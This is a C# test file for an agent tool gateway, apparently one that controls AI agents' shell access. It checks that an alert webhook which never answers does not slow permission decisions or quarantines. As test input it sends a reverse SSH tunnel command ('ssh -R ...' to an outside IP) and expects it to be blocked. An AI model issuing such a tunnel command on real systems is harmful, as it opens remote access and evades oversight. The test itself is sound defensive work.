using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using ToolGate.Gateway.Tests.Infrastructure;

namespace ToolGate.Gateway.Tests.Quarantine;

/// <summary>The webhook points at a listener that accepts connections and never answers: every delivery hangs.</summary>
public sealed class BlackHoleWebhookFixture : GatewayFixture
{
    private readonly TcpListener _blackHole = new(IPAddress.Loopback, 0);

    protected override IDictionary<string, string?> Settings => new Dictionary<string, string?>
    {
        ["ToolGate:Alerts:WebhookUrl"] = $"http://127.0.0.1:{((IPEndPoint)_blackHole.LocalEndpoint).Port}/alerts",
        ["ToolGate:Alerts:TimeoutSeconds"] = "60",
        ["ToolGate:Alerts:MaxAttempts"] = "5",
    };

    public override async Task InitializeAsync()
    {
        _blackHole.Start();
        await base.InitializeAsync();
    }

    public override async Task DisposeAsync()
    {
        await base.DisposeAsync();
        _blackHole.Dispose();
    }
}

public sealed class AlertReceiverDownTests(BlackHoleWebhookFixture fixture) : IClassFixture<BlackHoleWebhookFixture>
{
    [Fact]
    public async Task AReceiverThatNeverAnswers_DoesNotSlowDecisionsOrQuarantines()
    {
        var gateway = fixture.Gateway;
        var cwd = Directory.CreateTempSubdirectory("toolgate-cwd-").FullName;
        var clients = new List<HttpClient>();
        for (var i = 0; i < 4; i++)
        {
            var (id, _, client) = await gateway.CreateAgentAsync();
            await gateway.GrantAsync(new { agentId = id, capability = "shell", allow = new[] { "echo *" }, paths = new[] { cwd + "/**" } });
            clients.Add(client);
        }

        var clock = Stopwatch.StartNew();
        // Three quarantines: three alerts queued behind a delivery that waits 60 s per attempt.
        foreach (var client in clients.Take(3))
        {
            using var tunnel = await client.PostAsync("/tools/shell", Body("ssh -R 1:localhost:22 x@203.0.113.9", cwd));
            Assert.Equal(HttpStatusCode.Forbidden, tunnel.StatusCode);
            using var after = await client.PostAsync("/tools/shell", Body("echo hi", cwd));
            Assert.Equal("quarantined", (await Json.ReadAsync(after)).Text("rule"));
        }

        for (var i = 0; i < 20; i++)
        {
            using var allowed = await clients[3].PostAsync("/tools/shell", Body($"echo {i}", cwd));
            Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
        }

        // Had any decision waited for the webhook, this would take minutes; the bound is generous for a busy machine.
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"26 decisions took {clock.Elapsed} with the webhook down");
    }

    private static StringContent Body(string command, string cwd) => Json.Body(JsonSerializer.Serialize(new { command, cwd }));
}
